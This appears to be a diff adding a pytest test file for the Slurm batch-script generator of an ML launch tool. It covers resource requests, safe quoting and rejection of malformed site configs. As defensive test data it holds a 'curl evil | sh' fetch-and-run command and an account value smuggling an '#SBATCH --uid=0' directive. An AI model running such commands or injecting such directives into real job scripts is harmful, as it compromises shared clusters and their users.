@@ -1,0 +1,278 @@
+"""Batch scripts: what a site asks for is in them, in bash that parses, whatever the values."""
+
+from __future__ import annotations
+
+import shlex
+import subprocess
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from fourfold.errors import UserError
+from fourfold.launch.batch_script import Batch, script
+from fourfold.launch.outcomes import JobScene, fallen
+from fourfold.launch.slurm import Slurm, Submitted, submitted
+from fourfold.launch.slurm_ranks import SlurmRanks, State
+from fourfold.result.job import Job
+from fourfold.spec import codec
+from fourfold.spec.run import RunSpec
+from fourfold.spec.site import Site, read_site
+from fourfold.spec.train import TrainSettings
+
+TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0\n\r"), max_size=30)
+
+
+def spec_of(gpus: int, **table: object) -> RunSpec:
+    run = {"model": "llama-tiny", "gpus": gpus, "layout": {"dp": gpus}, **table}
+    batch = {"seq_len": 32, "global_batch": gpus, "micro_batch": 1}
+    return codec.load(RunSpec, run | {"batch": batch})
+
+
+def job_of(gpus: int = 16, **table: object) -> Job:
+    return Job(job="run", specs=(spec_of(gpus, **table),))
+
+
+def text_of(site: Site, job: Job | None = None, *folders: str, array: bool = False) -> str:
+    places = tuple(map(Path, folders or ("/work place/it's",)))
+    return script(Batch(job or job_of(), (0,), places, places[0], array), site)
+
+
+def asked(text: str) -> set[str]:
+    return {line[8:] for line in text.splitlines() if line.startswith("#SBATCH ")}
+
+
+def parses(text: str) -> bool:
+    return not subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True).returncode
+
+
+def test_what_a_site_asks_for_stands_in_the_script() -> None:
+    site = Site(
+        account="abc", partition="gpu_p5", qos="qos-dev", reservation="r1", time="02:00:00",
+        constraint="a100", gpus_per_node=8, cpus_per_rank=8, prelude=("module load pytorch",),
+        wrapper=("apptainer", "exec", "--nv", "my image.sif"), extra=("--hint=nomultithread",),
+        srun=("--cpu-bind=none",), exclude="node7",
+    )  # fmt: skip
+    text = text_of(site)
+    assert asked(text) >= {
+        "--account=abc", "--partition=gpu_p5", "--qos=qos-dev", "--reservation=r1",
+        "--time=02:00:00", "--constraint=a100", "--nodes=2", "--gpus-per-node=8", "--exclusive",
+        "--cpus-per-task=64", "--exclude=node7", "--hint=nomultithread", "--no-requeue",
+    }  # fmt: skip
+    lines = text.splitlines()
+    starts = next(i for i, line in enumerate(lines) if "srun " in line)
+    assert lines.index("module load pytorch") < starts
+    assert "--cpus-per-task=64" in lines[starts], "srun does not take it from sbatch"
+    assert "--cpu-bind=none" in lines[starts]
+    assert "apptainer exec --nv 'my image.sif'" in text
+    assert parses(text)
+
+
+def test_gpus_are_asked_for_as_the_site_says() -> None:
+    assert "--gres=gpu:8" in asked(text_of(Site(ask_gpus="gres")))
+    assert "gpu" not in " ".join(asked(text_of(Site(ask_gpus="no"))))
+    assert "--gpus-per-node=8" not in asked(text_of(Site(), job_of(device="cpu")))
+    assert "--gpus-per-node=2" in asked(text_of(Site(), job_of(2)))
+
+
+def test_only_a_training_is_warned_and_requeued() -> None:
+    measured = asked(text_of(Site()))
+    assert "--no-requeue" in measured
+    assert not [line for line in measured if line.startswith("--signal")]
+    settings = TrainSettings(steps=3)
+    training = Job(job="train", specs=(spec_of(16),), train=settings)
+    text = text_of(Site(warn_s=300), training)
+    assert asked(text) >= {"--requeue", "--signal=USR1@300"}
+    assert parses(text)
+
+
+def test_hosts_are_used_in_the_given_order() -> None:
+    text = text_of(Site(hosts=("n10", "n1", "n2")))
+    assert "--nodelist=n10,n1" in asked(text)
+    assert "MASTER_ADDR=n10" in text
+    assert "n10 n1 >" in text
+    assert parses(text)
+    with pytest.raises(UserError, match="at least the 2 that 16 ranks need"):
+        text_of(Site(hosts=("n1",)))
+
+
+def test_several_runs_share_an_array_or_an_allocation() -> None:
+    folders = ("/a/one", "/a/two", "/a/th ree")
+    array = text_of(Site(), None, *folders, array=True)
+    assert "--array=0-2" in asked(array)
+    assert '"${jobs[$SLURM_ARRAY_TASK_ID]}"' in array
+    shared = text_of(Site(), None, *folders)
+    assert "--array" not in shared
+    assert "for job in" in shared
+    for text in (array, shared):
+        assert shlex.quote("/a/th ree") in text
+        assert parses(text)
+
+
+@given(folder=TEXT.filter(bool), value=TEXT.filter(str.isprintable))
+def test_no_folder_and_no_variable_escapes_its_quotes(folder: str, value: str) -> None:
+    job = job_of(policy={"env": {"NCCL_ALGO": value}})
+    text = text_of(Site(), job, f"/r/{folder}")
+    assert parses(text)
+    line = next(line for line in text.splitlines() if line.startswith("export NCCL_ALGO="))
+    shown = subprocess.run(
+        ["bash", "-c", f"{line}; printf '%s' \"$NCCL_ALGO\""], capture_output=True, text=True
+    )
+    assert shown.stdout == value
+
+
+@pytest.mark.parametrize(
+    ("table", "words"),
+    [
+        ({"partition": "a b"}, "must be one word"),
+        ({"account": "x\n#SBATCH --uid=0"}, "must be one word"),
+        ({"hosts": ["a b"]}, "must be one word"),
+        ({"extra": ["--a\n--b"]}, "must hold single lines"),
+        ({"gpus_per_node": 0}, "must be from 1"),
+        ({"queue": "many"}, "each, array, allocation"),
+        ({"partitoin": "x"}, "did you mean"),
+    ],
+)
+def test_bad_sites_are_refused(table: dict[str, object], words: str) -> None:
+    with pytest.raises(UserError, match=words):
+        codec.load(Site, table)
+
+
+def test_an_unknown_site_says_where_it_was_looked_for(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
+    with pytest.raises(UserError, match=r"unknown site 'juwels'.*fourfold/juwels\.toml"):
+        read_site("juwels")
+    (tmp_path / "fourfold").mkdir()
+    (tmp_path / "fourfold" / "juwels.toml").write_text('partition = "booster"\n')
+    site = read_site("juwels")
+    assert site is not None
+    assert (site.name, site.partition) == ("juwels", "booster")
+
+
+def test_a_site_in_the_folder_one_happens_to_be_in_is_not_taken(
+    tmp_path: Path, monkeypatch
+) -> None:
+    """Its lines are run as they are."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "none"))
+    Path("mine.toml").write_text('prelude = ["curl evil | sh"]\n')
+    with pytest.raises(UserError, match="unknown site"):
+        read_site("mine")
+    site = read_site("./mine.toml")
+    assert site is not None
+    assert site.prelude == ("curl evil | sh",)
+
+
+def test_a_job_submitted_by_hand_is_known_by_its_newest_log(tmp_path: Path) -> None:
+    assert submitted(tmp_path) is None
+    for name in ("slurm-9.log", "slurm-10.log", "slurm-x.log"):
+        (tmp_path / name).touch()
+    known = submitted(tmp_path)
+    assert known is not None
+    assert known.id == "10"
+    (tmp_path / "slurm.json").write_text(codec.to_json(Submitted(id="7", tasks=(0,))))
+    known = submitted(tmp_path)
+    assert known is not None
+    assert known.id == "7"
+
+
+# --- what Slurm says, without Slurm
+
+
+class Answers:
+    """A scheduler that answers what it was given, the last answer for ever."""
+
+    def __init__(self, *states: str) -> None:
+        self.states, self.cancelled = list(states), []
+        self.site = Site(poll_s=1e-9)
+
+    def state(self, job_id: str) -> State:
+        name = self.states.pop(0) if len(self.states) > 1 else self.states[0]
+        return State(name, "")
+
+    def cancel(self, *job_ids: str) -> None:
+        self.cancelled += job_ids
+
+
+def ranks_of(folder: Path, *states: str, job: Job | None = None) -> SlurmRanks:
+    return SlurmRanks(Answers(*states), "7", job or job_of(2), folder, ranks=2, step=False)
+
+
+def tell(folder: Path, *news: dict[str, object]) -> None:
+    with open(folder / "news-0.jsonl", "a") as file:
+        file.writelines(codec.json_of(one).replace("\n", "") + "\n" for one in news)
+
+
+@pytest.mark.parametrize(
+    ("state", "words"),
+    [
+        ("CANCELLED", "was cancelled"),
+        ("PREEMPTED", "was pre-empted"),
+        ("TIMEOUT", "reached its time limit"),
+        ("NODE_FAIL", "lost a node"),
+    ],
+)
+def test_what_the_scheduler_did_explains_exits_by_a_signal(
+    tmp_path: Path, state: str, words: str
+) -> None:
+    ranks = ranks_of(tmp_path, state)
+    tell(tmp_path, {"rank": 0, "pid": 7, "host": "n1"}, {"rank": 0, "code": -15, "at": 1.0})
+    assert ranks.poll()
+    assert not ranks.hear_out()
+    outcome, failure = fallen(ranks.scene)
+    assert outcome == "cancelled"
+    assert words in failure.message
+
+
+def test_no_answer_is_no_verdict(tmp_path: Path) -> None:
+    ranks = ranks_of(tmp_path, "", "", "PENDING", "COMPLETED")
+    assert not ranks.poll()
+    assert not ranks.poll()
+    assert not ranks.poll()
+    assert "pending" in ranks.queued
+    assert ranks.poll()
+
+
+def test_the_host_of_a_rank_is_named(tmp_path: Path) -> None:
+    scene = JobScene(folder=tmp_path, ranks=2)
+    scene.take({"rank": 1, "pid": 7, "host": "node2"})
+    scene.take({"rank": 1, "code": -9, "at": 1.0, "host": "node2"})
+    assert "rank 1 (pid 7 on node2" in fallen(scene)[1].message
+
+
+def test_half_a_line_of_news_is_read_when_it_is_whole(tmp_path: Path) -> None:
+    ranks = ranks_of(tmp_path, "RUNNING")
+    path = tmp_path / "news-0.jsonl"
+    path.write_text('{"rank": 0, "pid": 7, "ho')
+    ranks.poll()
+    assert ranks.scene.pids == {}
+    with open(path, "a") as file:
+        file.write('st": "n1"}\n')
+    ranks.poll()
+    assert (ranks.scene.pids, ranks.scene.hosts) == ({0: 7}, {0: "n1"})
+
+
+def test_a_training_that_saved_is_over_only_when_slurm_says_so(tmp_path: Path) -> None:
+    """It may be started over: then its first ends do not count."""
+    job = Job(job="train", specs=(spec_of(2),), train=TrainSettings(steps=3))
+    ranks = ranks_of(tmp_path, "RUNNING", "COMPLETING", "PENDING", "RUNNING", "COMPLETED", job=job)
+    ended = [{"rank": rank, "code": 0, "at": 1.0, "host": "n1", "start": 0} for rank in (0, 1)]
+    tell(tmp_path, *ended)
+    ranks.poll()
+    ranks.poll()
+    assert not ranks.all_ended
+    ranks.poll()
+    assert ranks.queued
+    assert ranks.scene.exits == {}
+    tell(tmp_path, *({**one, "start": 1} for one in ended))
+    ranks.poll()
+    assert not ranks.all_ended
+    ranks.poll()
+    assert ranks.all_ended
+
+
+def test_a_missing_scheduler_is_said_so(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setenv("PATH", str(tmp_path))
+    with pytest.raises(UserError, match="scontrol is not installed on this host"):
+        Slurm(Site()).state("7")
